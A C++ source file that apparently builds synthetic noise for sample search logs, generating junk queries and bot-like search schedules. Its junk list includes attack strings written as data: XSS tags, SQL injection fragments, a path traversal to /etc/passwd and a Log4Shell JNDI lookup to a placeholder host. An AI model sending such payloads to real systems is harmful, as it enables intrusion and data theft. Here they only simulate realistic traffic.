#include "index/build/sample_noise.h"

#include <algorithm>
#include <iterator>

#include "absl/strings/str_cat.h"
#include "absl/strings/string_view.h"

namespace kindred {
namespace {

constexpr uint64_t kSearchesPerRobotDay = 2000;  // At least, where the log is large enough for one robot.
constexpr int64_t kHourMs = 3'600'000;
constexpr int64_t kDayMs = 24 * kHourMs;

constexpr absl::string_view kCommonJunk[] = {
    "service@example.com",
    "shop.test@example.com",
    "0912-345-678",
    "02-2345-6789",
    "+886 912 345 678",
    "4111 1111 1111 1111",
    "https://www.example.com/product?id=123",
    "www.example.com",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "' or 1=1--",
    "1' union select null,version()--",
    "../../../../etc/passwd",
    "${jndi:ldap://example.com/a}",
    "A123456789",
};
// Of patterns that nobody takes for someone's: a number drawn at random might be.
constexpr absl::string_view kPhones[] = {"0900-000-000", "0911-111-111", "0912-345-678", "0987-654-321"};

}  // namespace

std::string JunkQuery(SampleRandom& random) {
  if (random.Chance(600)) return std::string(kCommonJunk[random.Below(std::size(kCommonJunk))]);
  const uint64_t number = random.Below(10'000'000);  // One draw: the order of a call's arguments is not fixed.
  switch (random.Below(4)) {
    case 0:
      return absl::StrCat("user", number, "@example.com");
    case 1:
      return std::string(kPhones[number % std::size(kPhones)]);
    case 2:
      return absl::StrCat("https://www.example.com/goods/", number);
    default:
      return absl::StrCat("' and ", number, "=", number, "--");
  }
}

std::vector<std::string> CommonJunk() {
  std::vector<std::string> junk;
  for (const absl::string_view query : kCommonJunk) junk.emplace_back(query);
  return junk;
}

std::vector<RobotDay> RobotDays(uint64_t rows, int64_t days, uint64_t queries, SampleRandom& random) {
  const uint64_t searches = rows / 40;
  const uint64_t count = std::max<uint64_t>(1, searches / kSearchesPerRobotDay);
  const uint64_t robots = count / 4 + 1;
  std::vector<RobotDay> robot_days;
  for (uint64_t i = 0; i < count; ++i) {
    RobotDay& day = robot_days.emplace_back();
    day.robot = i % robots;
    const int64_t date = static_cast<int64_t>(random.Below(static_cast<uint64_t>(days - 1)));
    day.start_ms = date * kDayMs + static_cast<int64_t>(random.Below(kHourMs));
    day.gap_ms = 8000 + static_cast<int64_t>(random.Below(12000));  // At most 22 hours a day.
    day.searches = searches / count + (i < searches % count ? 1 : 0);
    day.first_query = random.Below(queries);
    day.repeats = i % 3 == 1;
  }
  std::stable_sort(robot_days.begin(), robot_days.end(),
                   [](const RobotDay& a, const RobotDay& b) { return a.start_ms < b.start_ms; });
  return robot_days;
}

}  // namespace kindred
